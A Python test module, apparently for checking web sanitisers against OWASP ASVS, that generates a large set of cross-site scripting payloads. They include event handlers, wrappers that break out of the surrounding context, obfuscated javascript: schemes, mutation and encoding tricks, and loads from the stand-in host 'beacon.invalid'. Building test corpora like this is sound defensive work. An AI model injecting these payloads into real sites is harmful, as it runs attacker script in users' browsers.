"""What strangers write to run a script in the page of whoever reads it (OWASP ASVS 5, 1.2 and 1.3).

Every payload that runs says so by setting `window.pwned`; every one that loads something asks
`beacon.invalid`, a name that exists nowhere.
"""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "pwned"
BEACON: Final = "beacon.invalid"
_RUN: Final = f"window.{MARK}=1"

_HANDLERS: Final = {
    "img": ("src=x", "onerror"),
    "svg": ("", "onload"),
    "body": ("", "onload"),
    "iframe": ("", "onload"),
    "input": ("autofocus", "onfocus"),
    "select": ("autofocus", "onfocus"),
    "textarea": ("autofocus", "onfocus"),
    "video": ("src=x", "onerror"),
    "audio": ("src=x", "onerror"),
    "details": ("open", "ontoggle"),
    "marquee": ("", "onstart"),
    "object": ("data=x", "onerror"),
    "math": ("tabindex=1 autofocus", "onfocus"),
    "div": ("style=animation:x", "onanimationstart"),
    "a": ("href=# autofocus", "onfocusin"),
}
_WRAPPERS: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "<!--{}-->{}",
    "<noscript><p title='</noscript>{}'>",
    "<math><mtext><table><mglyph><style><!--</style>{}",
)
_SCHEMES: Final = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "blob:{}",
)
_LINKS: Final = ("[ver]({})", '<a href="{}">ver</a>', "<{}>")
_ALONE: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=//{BEACON}/x.js></script>",
    f"</script><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>ver</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></foreignObject></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{MARK}=1</script>'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<base href='//{BEACON}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<link rel=stylesheet href=//{BEACON}/x.css>",
    f"<style>@import '//{BEACON}/x.css';</style>",
    f'<div style="background:url(//{BEACON}/x.png)">x</div>',
    f"<img src=//{BEACON}/pixel.gif width=1 height=1>",
    f"<img srcset='//{BEACON}/a.png 2x'>",
    f"<picture><source srcset=//{BEACON}/b.png><img></picture>",
    f"<video poster=//{BEACON}/c.png></video>",
    f"<input type=image src=//{BEACON}/d.png>",
    f"<table background=//{BEACON}/e.png><tr><td>x</table>",
    f"![foto](http://{BEACON}/f.png)",
    f"http://{BEACON}/vista-previa",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    "{{7*7}} ${7*7} #{7*7}",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
    f"\u202e<script>{_RUN}</script>",
    f"<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"<plaintext><script>{_RUN}</script>",
    f"<xss onpointerenter={_RUN} style=position:fixed;inset:0>",
    f"<template><script>{_RUN}</script></template>",
    f"<select><style></select><img src=x onerror={_RUN}></style>",
    "\"'`></>&<!--",
)


def payloads() -> list[str]:
    """All of them, each once."""
    with_handlers = [
        wrapper.replace("{}", f"<{tag} {attributes} {handler}={_RUN}>")
        for (tag, (attributes, handler)), wrapper in product(_HANDLERS.items(), _WRAPPERS)
    ]
    as_links = [
        link.replace("{}", scheme.replace("{}", _RUN)) for link, scheme in product(_LINKS, _SCHEMES)
    ]
    return list(dict.fromkeys((*_ALONE, *as_links, *with_handlers)))
